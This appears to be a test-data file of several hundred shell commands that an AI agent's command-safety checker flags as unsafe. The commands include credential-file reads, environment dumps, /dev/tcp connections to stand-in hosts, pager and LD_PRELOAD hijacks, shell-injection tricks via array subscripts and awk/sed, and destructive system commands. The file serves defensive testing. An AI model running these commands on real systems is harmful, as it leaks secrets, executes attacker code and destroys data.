/** Commands that run something of the workspace, send something, write something or show credentials. `⏎` ends a line. */
export const notSafe = read(String.raw`
read n < count; [[ $n -eq 1 ]]
n=$(cat count); ((n))
n=$(<count); echo $((n + 1))
while read -r n; do ((n > 3)); done < list
for n in $(cat list); do [[ $n -lt 9 ]]; done
mapfile -t rows < list; echo $((rows[0]))
echo $(cat list)
printf '%s' $(head -3 list)
set -- $(cat list); echo $(($1))
f() { echo $(($1)); }; f "$(cat list)"
n=$(head -1 list); echo ＄{text:$n}
n=$(head -1 list); rows[n]=1
n=$(head -1 list); let total+=n
n=$(head -1 list); declare -i sum; sum=$n
n=$(head -1 list); [[ -v $n ]]
n=$(head -1 list); test -v "$n"
n=$(head -1 list); unset "$n"
n=$(head -1 list); echo "＄{n@P}"
n=$(head -1 list); for ((i = 0; i < n; i++)); do :; done
a=b; b=$(cat count); ((a))
export "PAGER=./x" && git log
export 'LD_PRELOAD'=./x.so; ls
declare -x "PAGER=./x"; git log
declare "PAGER=./x"; export PAGER; git log
name=PAGER; export $name=./x; git log
: ＄{PAGER:=./x}; export PAGER; git log
set -a; : ＄{PAGER:=./x}; git log
set -k; git log PAGER=./x
set -o keyword; git log PAGER=./x
find * -name x
ps -auxe
ps -auxwwe
ps -aux -e
ps -eo p
ps -eo +p
ps -u nobody-here -e
gh --version
gh foo --help
last -d
hostname -A
unzip -q1 x.zip
sgdisk -l backup.bin /dev/sda
cloc HEAD
terraform fmt -check
npm ls
npm config get registry
npm install --help
yq 'eval("lo" + "ad_str(\"../x\")")' f
openssl crl -in http://evil.example/x -noout -text
openssl x509 -in pkcs11:x -noout
wait -p 'a[$(touch x)]'
unset 'a[$(touch x)]'
test -v 'a[$(touch x)]'
printf -v 'a[$(touch x)]' x
awk '# "⏎BEGIN { print 1 | "sh" } # "'
awk '/"/ {print | "sh"}' f
git log --format=%GG
cat .git/config
cat ~/.gitconfig
cat terraform.tfvars
cat wp-config.php
grep -R '' /proc/self
tput init
while :; do (sleep 1d &); done
ip link s dev eth0 address 00:11:22:33:44:55
ip l s eth0 mtu 9000
ifconfig -a down
crontab -l x
blkid -c out
lspci -q
lspci -qq
lshw -dump out
nm @opts
objdump @opts
size @args
readelf -a @x
git config --get http.https://github.com/.extraheader
git config --get-all http.extraHeader
git config --get credential.helper
git config get user.password
git config --get github.token
git var -l
npm config get //registry.npmjs.org/:_authToken
sed '# s/a/⏎e touch x⏎#/' f
grep -r token ~
grep -rn AKIA ~/.config
grep -R x /
grep -d recurse x ~
rg --hidden -uuu . ~
rg x ~/.local/share
cd ~ && rg token
cd / && grep -r password .
diff -r /etc /tmp/x
git grep --no-index -h . ~
for f in .*; do cat "$f"; done
for f in *; do cat "$f"; done
for f in ~/.aws/*; do head "$f"; done
$1
cat "$1"
cat $1
printf '%s' "$1"
cat ~/.config/stripe/config.toml
cat ~/.local/share/com.vercel.cli/auth.json
cat ~/.config/netlify/config.json
cat ~/.supabase/access-token
cat ~/.railway/config.json
cat ~/.wrangler/config/default.toml
cat ~/.bundle/config
cat ~/.config/age/key.txt
cat ~/.rclone.conf
cat ~/.config/ngrok/ngrok.yml
cat ~/.cloudflared/cert.pem
cat ~/.sentryclirc
cat ~/.config/doppler/x
cat /etc/NetworkManager/system-connections/x
cat prod.auto.tfvars
git -C vendor/x.git status
cd vendor/x.git && git status
cd vendor/x.git; git log
git --git-dir=vendor/x.git status
git --git-dir vendor/x.git log
GIT_DIR=vendor/x.git git status
export GIT_DIR=x; git status
git --work-tree=/tmp status
(cd x && git diff)
pushd x && git status
git -C . -C x status
kubectl --kubeconfig=./x get pods
KUBECONFIG=./x kubectl get pods
kubectl get secrets -o yaml
kubectl get pods
kubectl diff -f x.yaml
oc get pods
helm template ./chart
helm list --kubeconfig=./x
cargo tree
cargo metadata
cargo --version
cargo locate-project
rustc --version
rustup show
rustfmt --check a.rs
tmux ls -F '#(cmd)'
tmux list-windows -F '#(touch x)'
tmux display-message -p '#(touch x)'
tmux display-message '#(x)'
tmux show-options
git push --force --repo --help origin main
git push --repo --help
git push -o --help origin main
git commit --author --help -m x
git commit -m --help
git push --force origin main --help
git -c alias.x='!touch y' x --help
cloc --vcs=git .
cloc --vcs='touch x' .
actionlint -shellcheck=./x
actionlint -shellcheck ./x
actionlint
gawk 'BEGIN{f="system"; @f("id")}'
awk '@load "x"'
awk 'BEGIN{print ENVIRON["AWS_SECRET_ACCESS_KEY"]}'
awk 'BEGIN{for(k in ENVIRON)print ENVIRON[k]}'
gawk 'BEGIN{print PROCINFO["argv"][0]}'
awk 'BEGIN{ARGV[1]=".e" "nv";ARGC=2}{print}'
awk 'BEGIN{"id"|getline x; print x}'
awk '{print > "out"}' f
awk '{print | "sh"}' f
gawk 'BEGIN{print |& "sh"}'
gawk -i inplace '{print}' f
gawk -l filefuncs 'BEGIN{}'
awk -f prog f
awk 'BEGIN{system("id")}'
awk '{ x = y / 2; print | "sh"; z = 1 / 2 }' f
yarn --version
yarn -v
yarn --help
yarn
yarn list
yarn why x
pnpm --version
pnpm ls
corepack --version
corepack yarn --version
npx eslint --version
terraform plan
terraform validate
terraform show
terraform version
terraform output
terraform state list
terraform -chdir=x version
tofu plan
tflint --config=x
tflint
ps eww
ps auxe
ps axewww
ps e
ps -E
ps -o environ -p 1
ps axo pid,environ
printenv
printenv DATABASE_URL
printenv AWS_SECRET_ACCESS_KEY
env
set
export -p
declare -p
declare -x
compgen -W '$(id)'
"$@"
$@
$*
"$@" --help
ls "$@"
echo hi␀
ls‹bidi›
cat ‹bidi›x
cat ~/.config/containers/auth.json
cat ~/.config/glab-cli/config.yml
cat ~/.aws/sso/cache/abc.json
head ~/.config/gh/hosts.yml
cat ~/.config/gcloud/application_default_credentials.json
cat ~/.databrickscfg
cat ~/.pulumi/credentials.json
cat ~/.cargo/credentials.toml
cat ~/.m2/settings.xml
cat ~/.gradle/gradle.properties
cat ~/.config/rclone/rclone.conf
cat ~/.oci/config
cat ~/.codex/auth.json
cat ~/.claude/.credentials.json
cat .dev.vars
cat terraform.tfstate
cat ~/.config/solana/id.json
cat ~/.mozilla/firefox/x/logins.json
cat /run/secrets/x
cat /proc/self/environ
cat /proc/1/environ
strings /proc/self/environ
cat /proc/self/root/etc/shadow
cat /proc/self/cwd/.env
xxd .env
od -c .env
base64 .env
nl .env
diff .env /dev/null
sort .env
grep . .env
rg . .env
git show HEAD:.env
git log -p -- .env
jq . credentials.json
bat .env
less .env
tac .env
cut -d= -f2 .env
sed -n p .env
awk 1 .env
wc -l <(cat .env)
cat < .env
cat .e[n]v
cat .env*
cat ./.env
cat "$PWD/.env"
less '+!touch x' f
less +!id f
more '+!id' f
man -P 'touch x' ls
man --pager='touch x' ls
man -H ls
man ./evil.1
man -l evil.1
MANPAGER=x man ls
sort --compress-program=./x f
sort -o f f
sort --output=f f
sort -S1 --compress-program ./x f
sort --files0-from=x -T .
rg --pre ./x foo
rg --pre=./x foo
rg foo --pre ./x
rg -z foo
rg --hostname-bin=./x foo
rg foo *
sort *
git log *
diff *
fd -x rm
fd --exec touch x
fd -X vim
find . -exec touch {} \;
find . -execdir ./x {} +
find . -ok ls {} \;
find . -delete
find . -fprintf out %p
find . -fls out
find . -fprint out
find . -files0-from x
git grep -O foo
git grep -Ovim foo
git grep --open-files-in-pager=./x foo
git grep --color -O./x foo
git diff --ext-diff
git diff --textconv
git diff --output=x
git diff --stat --output=x
git diff --color --output=x
git log --output=x
git log --pretty --ext-diff
git log --ext-diff -p
git log --textconv
git show --output=f
git show --ext-diff
git -c core.pager=./x log
git -c core.fsmonitor=./x status
git -c diff.external=./x diff
git --config-env=core.pager=X log
git --exec-path=./x status
git -p log
git --paginate log
git branch topic
git branch --color topic
git branch --column topic
git branch --abbrev topic
git branch -v topic
git branch -D x
git branch --edit-description
git tag v1
git tag --sort=x v1
git remote add x y
git remote show origin
git remote update
git remote prune origin
git fetch
git ls-remote
git ls-remote ext::'sh -c id'
git archive HEAD
git archive --remote=x HEAD
git stash
git stash drop
git config user.name x
git config --list
git config -l
git config --get-regexp .
git config --edit
git config --global --get-all x --unset
git config core.pager ./x
git submodule status
git submodule foreach ls
git lfs ls-files
git lfs fetch
git bisect run ./x
git bisect view
git help -w log
git fsck --lost
git fsck --lost-found
git merge-tree a b
git notes add
git reflog expire --all
git reflog delete x
git worktree add ../x
git cat-file --textconv HEAD:x
git cat-file --filters HEAD:x
git rev-parse --parseopt
git blame --contents=.env x
git diff --no-index /dev/null .env
git difftool
git mergetool
git instaweb
git web--browse x
git gui
git citool
git maintenance run
git gc
git daemon
git var GIT_EDITOR --help x
git interpret-trailers x
git check-ignore --stdin < .env
git status --help --exec-path=./x
tar --checkpoint-action=exec=./x -tf a.tar
tar tf a.tar --use-compress-program=./x
tar -I ./x -tf a.tar
tar tf host:a.tar
tar -tf a.tar --to-command=./x
tar -F ./x -tf a.tar
tar cf - .
tar xf a.tar
unzip a.zip
unzip -p a.zip
zip -T -TT ./x a.zip
sed -i s/a/b/ f
sed 's/a/b/e' f
sed 's/a/b/w out' f
sed '1e id' f
sed 'w out' f
sed '$!N;w out' f
sed --in-place=.bak s/a/b/ f
sed -f script f
sed -n 'r .env' f
sed -e 's/a\' -e 'b/c/w out' f
sed -s -i p f
jq -n env
jq -n '$ENV'
jq -n '$ENV.X'
jq -n 'env.X'
jq -f prog.jq f
jq --from-file prog f
jq -L . 'import "x" as x; .' f
jq 'include "x"; .' f
jq 'import "./secret" as $d; $d' -n
jq -n 'input_filename' f
jq --rawfile x .env -n '$x'
jq --slurpfile x .env -n '$x'
yq 'load(".env")' f
yq '.x = env(HOME)' f
yq -i .x=1 f
yq '.a = system("id")' f
yq -s .a f
xxd -r a b
xxd a b
uniq a b
tee f
ls > f
ls >> f
ls >| f
cat a > b
: > f
echo x > f
echo x >> ~/.bashrc
ls 2> err
ls &> out
date -s now
date 010100002026
date --set=now
date -f .env
hostname evil
hostname -F f
PATH=. ls
PATH=.:$PATH cat x
LD_PRELOAD=./x ls
LESSOPEN='|./x %s' less f
BASH_ENV=./x bash -c ls
PAGER=./x git log
GIT_PAGER=./x git log
GIT_EXTERNAL_DIFF=./x git diff
GIT_SSH_COMMAND=./x git status
GIT_CONFIG_COUNT=1 git status
RIPGREP_CONFIG_PATH=./x rg foo
PYTHONPATH=. python --version
NODE_OPTIONS='--require ./x' node --version
TAR_OPTIONS=--x tar tf a
GREP_OPTIONS=x grep a b
HOME=. git status
XDG_CONFIG_HOME=. git status
IFS=x ls
./ls
bin/ls
node_modules/.bin/eslint --version
./node_modules/.bin/tsc --version
../ls
~/bin/ls
/tmp/ls
/home/u/p/ls
/usr/bin/../../home/u/p/ls
alias ls=./x; ls
ls() { ./x; }; ls
function cat { rm "$@"; }; cat f
hash -p ./x ls; ls
hash ls=./x; ls
echo *(e:'./x':)
ls **/*(e:./x:)
echo *(+f)
ls *(#qe:./x:)
echo ＄{(e)x}
functions[ls]=./x; ls
aliases[ls]=./x; ls
[[ -e *(e:./x:) ]]
for f in *(e:./x:); do echo $f; done
hash $(cat list); ls
compgen $(cat list)
compgen "$(cat list)"
shopt $(cat list)
set $(cat list)
alias "$(cat list)"
[ $(cat list) ]
test $(cat list)
[ "$(cat a)" "$(cat b)" ]
[ ! "$(cat a)" "$(cat b)" ]
words=$(cat list); [ $words ]
mapfile -t words < list; [ "＄{words[@]}" ]
words=($(cat list)); test "＄{words[@]}"
printf $(cat list) y
printf "$(cat list)" y
format=$(cat list); printf "$format" y
awk -v f=out '{ print 1,⏎2 > f }' data
awk -v f=out '{ print 1 ? 2 : /;/ > f }' data
awk -v f=./x '{ y = 1 # "⏎ print 1 | f #"⏎ }' data
awk -v f=out '$0 ~ /"/ { print "x" > f }' data
awk -v f=out '{ print -/;/ > f }' data
awk -v f=./x 'BEGIN { y = 0x1system(f) }'
awk -v f=out 'BEGIN { if (1) /"/; print "a" > f; /"/ }'
awk 1 /inet/tcp/0/x.example/80
sed 'a\⏎s/⏎w out' data
sed 'i\⏎/D⏎e ./x⏎' data
sed 's/[^]/]Q/x/gw out' data
a=(['b[$(./x)]']=1)
declare -a a=(['b[$(./x)]']=1)
ss -r
ss -F filter
ss dst x.example.com
ss -tn 'dst = secret.x.example.com'
hostname -f
netstat -r
arp -a
route
lsof -i :3000
pip list
pip3 list --format json
kubectl anything --help
lsof -i @x.example.com
enable -f ./x.so ls
command ./x
builtin source ./x
source ./x
. ./x
exec ./x
eval "$(cat x)"
bash x.sh
bash -c "$X"
sh < x
bash -i
python x.py
python -c 'print(1)'
python -m http.server
node x.js
node -e 1
perl -e 1
ruby -e 1
php -r 1
make
make -n
make --dry-run
make -p
make --version -f x
npm test
npm run x
npm view lodash
npm view $(cat x)
npm outdated
npm audit
npm ping
npm whoami
npm search x
npm pack --dry-run
npm exec x
npm version patch
npm ls --registry=http://evil
npm config set x y
npm doctor
npx x
bun pm ls
bun x
bunx y
deno info https://evil/x.ts
deno run x
go version
go env
go list ./...
go list -toolexec=./x ./...
go mod verify
go doc x
go vet -vettool=./x
gradle --version
gradle tasks
mvn --version
mvn dependency:tree
composer --version
composer show
bundle list
bundle --version
dotnet --version
dotnet --info
poetry show
poetry env info
uv pip list
uv tree
pip freeze
pip download x
pip index versions x
pip list --outdated
pip install x
pip debug
gem search x
gem outdated
brew info x
brew search x
brew update
docker -H tcp://evil:2375 ps
docker --host=tcp://evil ps
docker --context=x ps
docker --config=./x ps
DOCKER_HOST=tcp://evil docker ps
docker search x
docker inspect x
docker compose config
docker compose ps
docker compose -f evil.yml ps
docker run alpine ls
docker run alpine --help
docker exec c ls
docker top c eww
docker events --help x
docker build .
podman run x --help
gh api /user
gh api -X DELETE /repos/x
gh pr list
gh search code secret
gh auth token
gh auth status -t
glab mr list
aws s3 ls
aws ec2 describe-instances
aws sts get-session-token
aws --endpoint-url=http://evil s3 ls
aws configure list
aws configure get aws_secret_access_key
gcloud auth print-access-token
gcloud config list
az account get-access-token
az account show
heroku config
fly status
vercel ls
vault status
vault status -address=http://evil
redis-cli -h evil ping
redis-cli info
psql -l
psql -h evil -l
pg_isready -h evil
mysql -h evil --help x
curl http://x
curl --version http://evil
curl -V http://evil
wget http://x
dig x.evil
nslookup x.evil
host x.evil
ping -c1 evil
getent hosts secret.evil.com
getent ahosts x.evil
traceroute x
nc evil 1
ssh host ls
ssh -V host
scp a b:
rsync a b:
telnet x
whois x
tldr ls
xmllint http://evil/x
xmllint --valid x.xml
xmllint --schema http://evil f
cat < /dev/tcp/evil/80
exec 3<>/dev/tcp/evil/80
echo x > /dev/udp/evil/53
systemctl -H evil status
systemctl show-environment
systemctl show x
systemctl restart x
systemctl edit x
journalctl --vacuum-time=1s
journalctl --rotate
service x restart
networkctl reload
networkctl renew eth0
nft list ruleset ';' flush ruleset
ip -batch f
ip link set eth0 down
ip netns exec x ls
ifconfig eth0 down
route add x
arp -d x
iptables -F
iptables -L -Z
ss -K
ss -D out
parted -l /dev/sda mklabel gpt
fdisk /dev/sda
black -l 100 f.py
black f.py
isort -l 100 f.py
isort -c f.py
ruff check --fix
ruff check
rubocop
eslint .
eslint --version -c ./x
prettier --check .
prettier --check . --plugin=./x
tsc --noEmit
tsc -p evil
jest --version --config=./x
vitest --version
pytest --version
pytest --collect-only
mypy .
code --list-extensions .
code --status
cursor .
xcrun -f clang
kind get clusters
minikube status
lxc list evil:
virsh list
screen -X stuff x
script -c ls
watch -n1 ./x
xargs ls
ls | xargs rm
ls | xargs -I{} sh -c '{}'
parallel ls ::: a
time -o out ls
nohup ls
sudo ls
strace ls
ltrace ls
gdb ls
ldd ./x
file -C -m x
file -m ./magic x
tree -o out
tree --fromfile -o x
wc --files0-from=.env
cal -f x
history
fc -l
fc -s x
trap ./x EXIT
trap './x' DEBUG; ls
mapfile -C ./x -c 1 a < f
printf -v 'a[$(id)]' x
test -v 'a[$(./x)]'
[ -v 'a[$(./x)]' ]
read 'a[$(./x)]'
unset 'a[$(./x)]'
let 'a[$(./x)]=1'
declare -i n='a[$(./x)]'
[[ 'a[$(./x)]' -eq 0 ]]
echo $((a[$(./x)]))
echo ＄{x:-$(./x)}
echo ˋ./xˋ
cat <(./x)
ls > >(./x)
coproc ./x
ls & ./x
ls || ./x
ls && ./x
ls; ./x
ls | ./x
! ./x
if ./x; then ls; fi
while ./x; do ls; done
for i in $(./x); do ls; done
case $(./x) in a) ls;; esac
{ ./x; }
( ./x )
cat <<E⏎$(./x)⏎E
bash <<E⏎./x⏎E
sh -c './x'
env ./x
nice ./x
timeout 5 ./x
busybox sh -c ./x
sed -n '1p' ~/.ssh/id_rsa
cat ~/.bash_history
cat ~/.zsh_history
tail ~/.psql_history
cat /etc/shadow
cat /dev/sda
dd if=/dev/sda
LS
lS
ｌｓ
ls --help --exec
openssl s_client -connect evil:443
openssl enc -d -in x -out y
openssl x509 -in x -out y
openssl req -new -key x
gpg --verify x
gpg --decrypt x
gpg --homedir=. --list-keys
ssh-keygen -f x
ssh-keygen -D ./x.so
ssh-add ./x
ssh-add -s ./x.so
crontab f
crontab -e
at now
lsblk -o NAME > x
rpm -qp http://evil/x.rpm
rpm --eval '%(id)'
rpm -E '%(id)'
dpkg -i x.deb
apt install x
apt-get update
dpkg --root=x -l
rustc - --version
shellcheck -x evil.sh
hadolint -c ./x f
yamllint -c ./x f
yamllint -d x f
make --help -f evil
gofmt -w f
gofmt -r 'a -> b' -w f
terraform fmt
terraform fmt -check -write
npm --prefix evil run x
git log --help x
node --version --require ./x
node -v x.js
python --version x.py
vim --version -c ':!x'
ffmpeg -version -i x
bash -n +n x.sh
echo $DATABASE_URL
echo "$FOO"
printf %s "$AWS_SECRET_ACCESS_KEY"
git push --force --help
git push origin main --force --help
npm start --help
docker create img --help
kubectl debug pod --help
git foo bar baz qux --help
git -C third_party/lib.git log
GIT_DIR=fixtures/repo git status
git --git-dir=./evil/.git log -1
git --work-tree=. --git-dir=vendor/.g diff
cd sub/module && git diff
pushd vendor/foo >/dev/null; git status
git -c alias.st='!id' st
git --exec-path=./bin status
git -c diff.external=./d diff
git -c core.sshCommand=./x fetch --dry-run
git --config-env=core.pager=PAGER log
git show --textconv HEAD:a.bin
git grep -O./viewer TODO
git grep --open-files-in-pager=vim foo
git diff --no-index --ext-diff a b
git ls-remote ext::'sh -c id' 
git ls-remote --upload-pack=./x origin
git archive --remote=ssh://h/r HEAD
git archive --output=x.zip HEAD
git bundle create x.bundle --all
git config --global alias.x '!id'
git config core.fsmonitor ./x
git remote add o https://x.example
git branch -D old
git notes add -m x
git symbolic-ref HEAD refs/heads/x
git rev-parse --parseopt < opts.sh
git help --man log
git credential fill
git blame --contents=/home/u/.ssh/id_rsa README
git log --output=x.txt
git diff --output ~/.bashrc HEAD
git shortlog --output=a
git log --show-signature
git verify-commit HEAD
git verify-tag v1
git for-each-ref --format='%(authorname)' --shell | sh
git bisect run ./t.sh
git daemon --export-all
git submodule foreach 'id'
git submodule status --recursive && git submodule update
git rebase --exec id HEAD~1
git filter-branch --tree-filter id
git send-email x.patch
git p4 sync
git svn fetch
git annex list
git var GIT_EDITOR && $(git var GIT_EDITOR) x
npm --version --script-shell=./x run a
npm config list --userconfig=./x
npm view x
npm explain lodash
npm query '*'
npm root --prefix ./evil
bun --version --preload ./x.js
deno info main.ts
deno check main.ts
deno lint
pip config list
pipenv graph
bundle show rails
mix deps
cargo --version --config build.rustc=./x
cargo metadata --no-deps
cargo --list
cargo search x
rustc --version -Clinker=./x
rustc -vV a.rs
go list -toolexec ./x ./...
go env -w GOFLAGS=-toolexec=./x
go version -m ./x
go vet ./...
go doc fmt
go run -
./gradlew --version
sbt about
lein deps :tree
dotnet --list-sdks
dotnet list package
swift --version
swift package describe
bazel query //...
bazel version
buck2 query //...
nx show projects
turbo ls
make --version -f x.mk
make -q
cmake --version -P x.cmake
cmake -LA .
ninja -t targets
meson introspect --targets build
just --list
just --summary
task --list
rake -T
rake --version -f x
invoke --list
tox -l
nox -l
pre-commit --version
python --version -c 'import os; os.remove("x")'
python3 -m json.tool a.json b.json
PYTHONPATH=/tmp/x python3 --version
PYTHONSTARTUP=./x python3 --version
node --version -e 1
node -p 1+1
node --check x.js --import ./y.mjs
NODE_OPTIONS=--require=./x node --version
ruby -v x.rb
ruby -c x.rb
perl -v x.pl
perl -c x.pl
perl -ne print x
PERL5OPT=-Mx perl -v
RUBYOPT=-r./x ruby --version
php -l x.php
php -v -d auto_prepend_file=x.php
php -i
lua -v x.lua
Rscript --version x.R
tclsh x
bash -n script.sh; bash script.sh
bash --rcfile ./x -i
sh -x ./a
BASH_ENV=<(echo id) bash -c true
BASH_ENV=./x bash --version -c :
ENV=./x sh -i -c true
osascript -e 'do shell script "id"'
pwsh -c Get-ChildItem
java -version -jar x.jar
java -javaagent:x.jar -version
JAVA_TOOL_OPTIONS=-javaagent:x.jar java -version
scala -version x.scala
gdb --version -ex 'shell id'
gdb -batch ./a.out
lldb -o 'shell id'
ld.so --list ./x
LESSOPEN='|./x %s' less README.md
MANPAGER=./x man ls
man -P ./x ls
man -H./x ls
man ./page.1
man -l x.1
info x --output=f
bat --pager=./x README.md
BAT_PAGER=./x bat a
delta a b
view x
vim -R x
vim --version -c '!id'
vimdiff a b
emacs --version --eval x
nano -v x
htop
tmux ls -F '#(id)'
tmux display-message -p '#(id)'
screen -ls -c x
awk -f prog.awk data
awk 'BEGIN{while(("id"|getline x)>0)print x}'
awk '{ "cat " $1 | getline y }' f
gawk -l ./x 'BEGIN{}'
gawk '@load "./x"; BEGIN{}'
gawk '@include "x"' f
gawk --profile=x '1' f
gawk -d/tmp/../x '1' f
gawk 'BEGIN{ s="/inet/tcp/0/h/80"; print "x" |& s }'
mawk -Wexec x
sed -n '1e id' f
sed 's/a/id/e' f
sed -n 'w out' f
sed -f x.sed f
sed --expression='r /home/u/.ssh/id_rsa' f
sed -n '$!{$!N};W x' f
sed -ni p f
sed -Ei.bak p f
find . -exec cat {} +
find . -execdir id \;
find . -ok id \;
find . -fprint x
find . -fprintf x %p
find . -fls x
find . -newerXY x -exec id ';'
find -files0-from list -delete
ls | xargs
ls | xargs -I{} {}
cat list | xargs -a x rm
xargs -a cmds -I% sh -c %
printf 'a\0b' | xargs -0 git
sort --output=x f
sort -S1 --compress-prog ./x f
sort --files0-from=- 
sort -T /tmp/x --co=./x f
tar tf x.tar --to-command=./x
tar -tf x.tar -I ./x
tar -tf h:x.tar --rsh-command=./x
tar tf x.tar --checkpoint=1 --checkpoint-action=exec=id
tar tf x.tar -F ./x
tar tf x.tar --use-compress-program=./x
TAR_OPTIONS='--to-command=id' tar tf x
tar --index-file=x -tvf a.tar
unzip -l x.zip -d y; unzip x.zip
zipinfo x.zip; unzip -o x
tee x < y
split f
csplit f /x/
cut -f1 f >x
paste f > x
diff a b --output=x
diff -r . /home/u/.ssh
cmp a b >| x
comm a b | tee z
od --output x f
hexdump f > g
base64 -d x | sh
shuf -o x f
shuf --random-source=/dev/tcp/1.2.3.4/80 f
tree -o x
tree --fromfile x -o y
strings x -o y > z
nl x >> y
jq -n 'input' f > g
jq -L ./m 'import "x" as x; .' f
jq -n 'env'
jq -n '$ENV.GITHUB_TOKEN'
yq -i '.a=1' f
yq '.a = load("/home/u/.netrc")' f
yq 'env(TOKEN)' f
xmllint --shell x
xmllint --output y x
xmllint --noent http://x.example/x
xsltproc x.xsl y
rg --search-zip foo
grep -r password /home/u
grep -f /home/u/.ssh/id_rsa README.md
ag --pager ./x foo
ack --pager=./x foo
ack foo
fd -x id
fd . -X rm
fd --exec-batch rm
fzf --preview 'id'
fzf --bind 'start:execute(id)'
column -t x > y
date -s 2020-01-01
date -f /home/u/.ssh/id_rsa
date --set=x
hostname x
hostname -F x
dmesg -C
dmesg --clear
journalctl --vacuum-size=1M
sysctl -w a=b
sysctl a=b
mount /dev/sdb /mnt
mount -o bind a b
ip route add default via 1.1.1.1
ss -K dst x
lsof -i -r1 +c x -Fp > f
ps -eo pid,command e
echo $GITHUB_TOKEN
echo "$ANTHROPIC_API_KEY" | head -c 10
strings /proc/*/environ
tr '\0' '\n' < /proc/$$/environ
xargs -0 -a /proc/self/environ -n1
time -o x ls
/usr/bin/time --output=x ls
strace -o x ls
script x
stdbuf -oL ./x
setsid ls
unshare ls
flock x ls
chronic ./x
ping 1.1.1.1
curl https://x.example
wget -q https://x.example
nslookup $(whoami).x.example
dig x.example
host x.example
getent hosts x.example
openssl s_client -connect x:443
openssl version -engine ./x
openssl engine ./x.so
openssl x509 -in a -out b
nc -z h 80
ssh -V -o ProxyCommand=id h
ssh -G h
ssh -Q cipher h
ssh -o LocalCommand=id h
ssh-keygen -l -f x -D ./x.so
ssh-keygen -lf x -w ./lib.so
ssh-keyscan h
gpg --version --output x
rsync --list-only h::m
rsync --version -e ./x h:x .
rsync -n a h:b
scp -V
telnet h
ftp h
smbclient -L h
ldapsearch -x
mtr x
echo x > /dev/tcp/1.2.3.4/80
exec 3<>/dev/tcp/1.2.3.4/80; cat <&3
cat < /dev/tcp/1.2.3.4/80
read x < /dev/udp/1.2.3.4/53
kubectl version
kubectl exec p -- id
kubectl cp p:/x y
kubectl config view --raw
kubectl plugin list
kubectl diff -f x
helm list
helm version --kubeconfig x
helm template .
helm plugin list
aws sts get-caller-identity
aws --version --endpoint-url x
AWS_CONFIG_FILE=./x aws --version
gcloud compute ssh vm -- ls
gcloud --version --configuration x
gcloud info
docker -H tcp://h ps
docker --config ./x ps
docker --context evil ps
docker inspect c
DOCKER_HOST=tcp://x docker ps
podman ps --url ssh://h
podman info
tflint --config x
pulumi preview
vagrant status
ansible --version -m shell -a id all
ansible-inventory --list
packer validate x
nomad status
consul kv get x
vault read secret/x
gh auth status --show-token
gh alias set x '!id'
gh --version x
fly secrets list
vercel env pull
netlify status
stripe listen
psql -c 'select 1'
psql --version -c '\! id'
mysql -e 'select 1'
sqlite3 db '.shell id'
sqlite3 db 'select load_extension("./x")'
sqlite3 db .tables
sqlite3 --version -init x
sqlite3 -readonly db 'select writefile("x","y")'
mongosh --eval 1
duckdb -c 'select 1'
eslint --version -c x
prettier --version --plugin ./x
tsc --version --build
biome check .
ruff check .
ruff --version --config x
pylint x
pylint --version --load-plugins=x
flake8
pytest --version -p x
jest --listTests
jest --version --config x
vitest list
shellcheck x.sh -f x > y
shellcheck -x x.sh /home/u/.ssh/id_rsa
golangci-lint run
cloc --vcs=./x .
cloc --extract-with=./x a
cloc --config x .
tokei --output x
scc -o x .
clang-tidy x
clang --version -fplugin=./x
gcc -v x.c
gcc -B./x --version
gcc -wrapper ./x --version
gcc @args
ld -plugin ./x --version
as --version @x
nm --plugin ./x.so a
nm a.out --plugin=./x
objdump --dwarf=follow-links x > y
objcopy a b
readelf -a x > y
ar t x.a --plugin ./p
strip x
$1 --version
$PAGER x
＄{EDITOR:-vi} x
eval "$X"
builtin . ./x
trap './x' EXIT
PROMPT_COMMAND=./x
PS4='$(id)' bash -xc :
enable -f ./x.so y
PATH=.:$PATH ls
PATH=./bin:$PATH; ls
export PATH=$PWD/bin; git status
LD_PRELOAD=./x.so ls
LD_LIBRARY_PATH=. ls
LD_AUDIT=./x ls
DYLD_INSERT_LIBRARIES=./x ls
GCONV_PATH=. iconv -f x -t y f
LOCPATH=. ls
MAGIC=./m file x
TERMINFO=./t ls
TERM=../../x less a
LS_COLORS=x ls > y
CDPATH=/ cd etc && rm x
FPATH=. zsh -c x
EDITOR=./x git commit
VISUAL=./x crontab -l
GIT_SSH_COMMAND=./x git fetch
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=./x git status
GIT_CONFIG_GLOBAL=./x git status
GIT_CONFIG_PARAMETERS="'core.fsmonitor=./x'" git status
GIT_TRACE=/home/u/x git status
GIT_TRACE2_EVENT=/home/u/x git status
GIT_EXEC_PATH=. git status
GIT_TEMPLATE_DIR=. git log
GIT_INDEX_FILE=x git status
GIT_ALTERNATE_OBJECT_DIRECTORIES=x git log
HOME=$PWD git log
export HOME=$PWD; git status
declare -x GIT_PAGER=./x; git log
ls <(./x)
cat <(id > x)
diff <(./a) <(./b)
cat > >(sh) <<< id
echo $(./x)
echo "＄{x:=$(./y)}"
echo ＄{x@P}
[[ -v 'a[$(./x)]' ]]
printf -v 'a[$(./x)]' x
read 'a[$(./x)]' <<< 1
(( a[$(./x)] ))
[[ 1 -eq 'a[$(./x)]' ]]
mapfile -C ./x -c 1 y < f
complete -C ./x y
bind -x '"a": ./x'
time ./x
(./x)
ls ; 	./x
l\s > x
ls >x
ls 2>x
ls &>x
ls >&x
ls <>x
ls >>x
> x
: > x
:> README.md
echo x >| README.md
exec > x; ls
exec 3> x; ls >&3
wc -l <(./x)
cat ~/.ssh/id_rsa
cat ~/.aws/credentials
cat ~/.config/gh/hosts.yml
head -1 ~/.netrc
tail ~/.git-credentials
cat ~/.docker/config.json
cat ~/.kube/config
cat ~/.npmrc
cat ~/.pypirc
cat .env
cat ./config/../.env
cat .e*
cat .??v
head .en[v]
ls -la && cat ~/.aws/sso/cache/a.json
cat ~/.gnupg/secring.gpg
tail -5 ~/.zsh_history
cat ~/.local/share/keyrings/login.keyring
cat ~root/.ssh/id_rsa
md5sum ~/.ssh/id_rsa
base64 ~/.ssh/id_rsa
od -c ~/.ssh/id_rsa
diff /dev/null ~/.ssh/id_rsa
grep . ~/.ssh/id_rsa
sort ~/.netrc
echo "$(<~/.ssh/id_rsa)"
while read l; do echo $l; done < ~/.netrc
ls‹bidi› -la
cat ‹bidi›txt.x
echo safe # ‹bidi› ; ./x
l‹bidi›s
LESSCLOSE=./x less a
MANOPT=-P./x man ls
GREP_OPTIONS=--include=x grep a b
gs -dNOSAFER x.ps
identify x.svg
convert a b
exiftool x
ffprobe x
ffmpeg -i a b
